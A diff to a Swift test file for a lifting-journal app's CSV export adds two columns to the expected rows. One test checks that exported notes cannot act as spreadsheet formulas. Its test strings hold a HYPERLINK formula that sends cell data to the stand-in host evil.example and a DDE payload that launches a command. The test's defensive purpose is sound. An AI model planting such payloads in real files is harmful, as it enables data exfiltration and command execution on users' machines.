@@ -1,6 +1,7 @@
 import Foundation
 import PlusCore
 import PlusStore
+import PlusTestSupport
 import Testing
 
 @testable import PlusFormat
@@ -136,8 +137,8 @@ import Testing
         let journal = try folder.copy(fixture: "examples/journal")
         let csv = plusmd(["export", "--format", "csv", "-o", "-"], in: journal)
         let rows = csv.out.components(separatedBy: "\r\n")
-        #expect(rows[0] == "date,lift,cycle,week,kind,set,target_weight,target_reps,weight,reps,amrap,e1rm,unit,notes")
-        #expect(rows.contains("2026-09-01,squat,1,1,working,3,270,5,270,8,true,342,lb,\"First day of the program. 270 moved well; stopped at 8 with one more maybe in the tank. BBB at 160 felt light for the first three sets, not for the last two.\""))
+        #expect(rows[0] == "date,lift,cycle,week,kind,set,target_weight,target_reps,weight,reps,amrap,e1rm,unit,written_weight,written_unit,notes")
+        #expect(rows.contains("2026-09-01,squat,1,1,working,3,270,5,270,8,true,342,lb,,,\"First day of the program. 270 moved well; stopped at 8 with one more maybe in the tank. BBB at 160 felt light for the first three sets, not for the last two.\""))
         #expect(rows.contains { $0.hasPrefix("2026-11-24,bench,3,1,bbb,5,120,10,,,false,,lb,") }, "a set not ticked has no done weight")
         let json = plusmd(["export", "--format", "json", "-o", "out.json"], in: journal)
         #expect(json.status == 0)
@@ -178,8 +179,8 @@ import Testing
         let csv = plusmd(["export", "--format", "csv", "-o", "-"], in: journal)
         #expect(csv.status == 0, "\(csv.err)")
         let rows = csv.out.components(separatedBy: "\r\n")
-        #expect(rows.contains { $0.hasPrefix("2026-09-01,squat,1,1,working,3,270,5,270,8,true,342,lb,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"") }, "\(rows.prefix(12))")
-        #expect(rows.contains { $0.hasSuffix(",lb,'@SUM(1+1)*cmd|' /C calc'!A0") })
+        #expect(rows.contains { $0.hasPrefix("2026-09-01,squat,1,1,working,3,270,5,270,8,true,342,lb,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"") }, "\(rows.prefix(12))")
+        #expect(rows.contains { $0.hasSuffix(",lb,,,'@SUM(1+1)*cmd|' /C calc'!A0") })
         for row in rows.dropFirst() where !row.isEmpty {
             let cells = row.split(separator: ",", omittingEmptySubsequences: false)
             #expect(!"=+-@".contains(cells.last?.first ?? "x"), "no cell starts a formula: \(row)")
